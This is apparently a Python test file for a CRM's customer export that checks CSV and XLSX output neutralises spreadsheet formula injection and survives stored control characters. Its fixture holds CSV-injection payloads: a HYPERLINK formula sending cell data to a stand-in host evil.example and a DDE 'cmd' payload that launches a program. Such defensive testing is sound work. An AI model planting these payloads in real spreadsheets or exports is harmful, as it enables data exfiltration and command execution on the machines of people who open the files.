"""Customer exports are safe to open: text a spreadsheet would run as a formula is
neutralised with a leading quote (OWASP CSV injection), and a control character stored
in a customer never makes an export fail for anyone who can see that customer."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from crmkit.mongo import get_database

from customer_helpers import CUSTOMERS, create

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "address": "+1+cmd|' /C calc'!A0",
    "needs": "-2+3",
    "source_detail": "@SUM(1+1)",
}


def exported(session, fmt: str) -> list[list]:
    reply = session.get(f"{CUSTOMERS}/export?format={fmt}",
                        headers={"Accept-Language": "en"})
    assert reply.status_code == 200, reply
    if fmt == "csv":
        return list(csv.reader(io.StringIO(reply.data.decode("utf-8-sig"), newline="")))
    sheet = load_workbook(io.BytesIO(reply.data), read_only=True).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def row_of(rows: list[list], customer: dict) -> dict:
    [row] = [r for r in rows[1:] if r[0] == customer["number"]]
    return dict(zip(rows[0], row))


def test_formula_text_is_neutralised_in_csv_and_xlsx(corg):
    rep = corg.user("rep")
    customer = create(rep, **FORMULAS)
    for fmt in ("csv", "xlsx"):
        row = row_of(exported(rep, fmt), customer)
        assert row["Name"] == "'" + FORMULAS["name"], fmt
        assert row["Address"] == "'" + FORMULAS["address"], fmt
        assert row["Needs"] == "'" + FORMULAS["needs"], fmt
        assert row["Source detail"] == "'" + FORMULAS["source_detail"], fmt
        assert row["Deal amount"] == "0.00", fmt        # plain values are left alone
        assert row["Phone"] == "138****5678", fmt


def test_a_control_character_in_one_customer_does_not_break_the_export(
        corg, customer_settings):
    rep = corg.user("rep")
    plain = create(rep)
    broken = create(rep)
    # Stored as older data may hold it (whatever input rules apply today).
    db = get_database(customer_settings.mongo_url, customer_settings.database_name("customer"))
    db["customers"].update_one({"_id": broken["id"]}, {"$set": {
        "address": "浦东\x07新区\x1b[31m", "needs": "\x01=1+2"}})
    for fmt in ("csv", "xlsx"):
        rows = exported(rep, fmt)
        assert row_of(rows, plain)["Name"] == plain["name"], fmt
        row = row_of(rows, broken)
        assert row["Address"] == "浦东新区[31m", fmt
        assert row["Needs"] == "'=1+2", fmt   # a formula left once the control is gone
